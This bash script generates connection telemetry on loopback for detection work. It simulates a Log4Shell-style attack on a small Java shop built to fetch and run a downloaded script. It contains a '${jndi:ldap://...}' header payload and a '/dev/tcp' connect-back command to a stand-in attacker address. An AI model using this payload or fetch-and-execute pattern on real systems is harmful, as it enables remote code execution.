#!/usr/bin/env bash
# Records the connections of a program in Java that is made to look something up at an attacker's.
#
#   ./record-java-lookup.sh [output file]
#
# Everything happens on the loopback interface. A small web shop in Java does what a vulnerable logger
# does with a header that holds ${jndi:ldap://…}: it connects to the directory named there, fetches
# from where that tells it, and starts a shell that connects back. A colleague only looks at the shop.
# The connections are sampled from the kernel with ss, five times a second, and each is written once in
# the form in which the monitor of a virtual machine reports it. It ends by itself after some seconds.
# It needs java 17 or newer, python3, curl and ss (iproute2).
set -euo pipefail

readonly output=$(realpath -m "${1:-$(dirname "$0")/java-lookup.jsonl}")
readonly host=shop-1 shop=127.0.0.7 attacker=127.0.0.66 colleague=127.0.0.8
readonly work=$(mktemp -d)
started=()

fail() { echo "record-java-lookup: $*" >&2; exit 1; }

cleanup() {
  for pid in "${started[@]}"; do kill "$pid" 2>/dev/null || true; done
  wait 2>/dev/null || true
  rm -rf "$work"
}

check() {
  for program in java python3 curl ss; do
    command -v "$program" >/dev/null || fail "$program is missing"
  done
}

write_shop() {
  cat >"$work/Shop.java" <<'EOF2'
import com.sun.net.httpserver.HttpServer;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.util.concurrent.Executors;
import java.util.regex.Pattern;

public class Shop {
  static final Pattern LOOKUP = Pattern.compile("\\$\\{jndi:ldap://([0-9.]+):([0-9]+)/");

  public static void main(String[] args) throws Exception {
    var server = HttpServer.create(new InetSocketAddress(args[0], 8080), 0);
    server.setExecutor(Executors.newCachedThreadPool());
    server.createContext("/", exchange -> {
      log(args[0], String.valueOf(exchange.getRequestHeaders().getFirst("X-Api-Version")));
      Thread.yield();
      sleep(700);
      exchange.sendResponseHeaders(204, -1);
      exchange.close();
    });
    server.start();
  }

  static void log(String own, String text) {
    var lookup = LOOKUP.matcher(text);
    if (!lookup.find()) return;
    new Thread(() -> {
      try (var directory = connect(own, lookup.group(1), Integer.parseInt(lookup.group(2)))) {
        var answer = new String(directory.getInputStream().readNBytes(64)).trim();
        var code = URI.create(answer);
        try (var download = connect(own, code.getHost(), code.getPort())) {
          download.getOutputStream().write("GET / HTTP/1.0\r\n\r\n".getBytes());
          var script = new String(download.getInputStream().readAllBytes()).trim();
          new ProcessBuilder("bash", "-c", script).start().waitFor();
        }
      } catch (Exception error) {
        error.printStackTrace();
      }
    }).start();
  }

  static Socket connect(String own, String address, int port) throws Exception {
    return new Socket(InetAddress.getByName(address), port, InetAddress.getByName(own), 0);
  }

  static void sleep(int milliseconds) {
    try {
      Thread.sleep(milliseconds);
    } catch (InterruptedException error) {
      Thread.currentThread().interrupt();
    }
  }
}
EOF2
}

start_attacker() {
  cat >"$work/attacker.py" <<'EOF2'
import socket, sys, threading, time

own = sys.argv[1]
answers = {
    1389: f"http://{own}:8888/".encode().ljust(64),
    8888: f"exec 3<>/dev/tcp/{own}/4443; sleep 1; exec 3>&-".encode(),
    4443: b"",
}

def serve(port, answer):
    listener = socket.create_server((own, port))
    while True:
        connection, _ = listener.accept()
        time.sleep(0.7)
        connection.sendall(answer)
        connection.shutdown(socket.SHUT_WR)
        connection.recv(1024)
        time.sleep(0.7)
        connection.close()

for port, answer in answers.items():
    threading.Thread(target=serve, args=(port, answer), daemon=True).start()
time.sleep(60)
EOF2
  python3 "$work/attacker.py" "$attacker" & started+=($!)
}

start_recorder() {
  cat >"$work/recorder.py" <<'EOF2'
import json, re, subprocess, sys, time
from datetime import datetime, timezone

host, output, shop = sys.argv[1:4]
names = ("java", "bash")
seen = set()

def lines(*arguments):
    return subprocess.run(("ss", "-Htn", *arguments), capture_output=True, text=True).stdout.splitlines()

def split(endpoint):
    address, port = endpoint.rsplit(":", 1)
    return address.strip("[]").removeprefix("::ffff:"), int(port)

with open(output, "w") as file:
    while True:
        listening = {split(line.split()[3])[1] for line in lines("-l")}
        for line in lines("-p", "state", "established"):
            columns = line.split()
            (local, local_port), (remote, remote_port) = split(columns[2]), split(columns[3])
            key = (columns[2], columns[3])
            program = next((name for name in re.findall(r'"([^"]+)"', line) if name in names), None)
            if program is None or key in seen:
                continue
            seen.add(key)
            inbound = local_port in listening
            if shop not in (local, remote) and program != "bash":
                continue
            record = {
                "TimeGenerated": datetime.now(timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z"),
                "Computer": host,
                "Direction": "inbound" if inbound else "outbound",
                "ProcessName": program,
                "SourceIp": remote if inbound else local,
                "DestinationIp": local if inbound else remote,
                "DestinationPort": local_port if inbound else remote_port,
                "Protocol": "tcp",
                "RemoteIp": remote,
                "Type": "VMConnection",
            }
            file.write(json.dumps(record) + "\n")
            file.flush()
        time.sleep(0.2)
EOF2
  python3 "$work/recorder.py" "$host" "$output" "$shop" & started+=($!)
}

request() { curl --silent --max-time 5 --interface "$1" --header "X-Api-Version: $2" "http://$shop:8080/" || true; }

check
trap cleanup EXIT
write_shop
start_attacker
start_recorder
java "$work/Shop.java" "$shop" & started+=($!)
for _ in $(seq 100); do curl --silent --output /dev/null --interface "$colleague" "http://$shop:8080/" && break; sleep 0.2; done
request "$colleague" 1.0
request "$attacker" "\${jndi:ldap://$attacker:1389/shop}"
sleep 6
request "$colleague" 1.0
echo "record-java-lookup: $(wc -l <"$output") connections in $output"
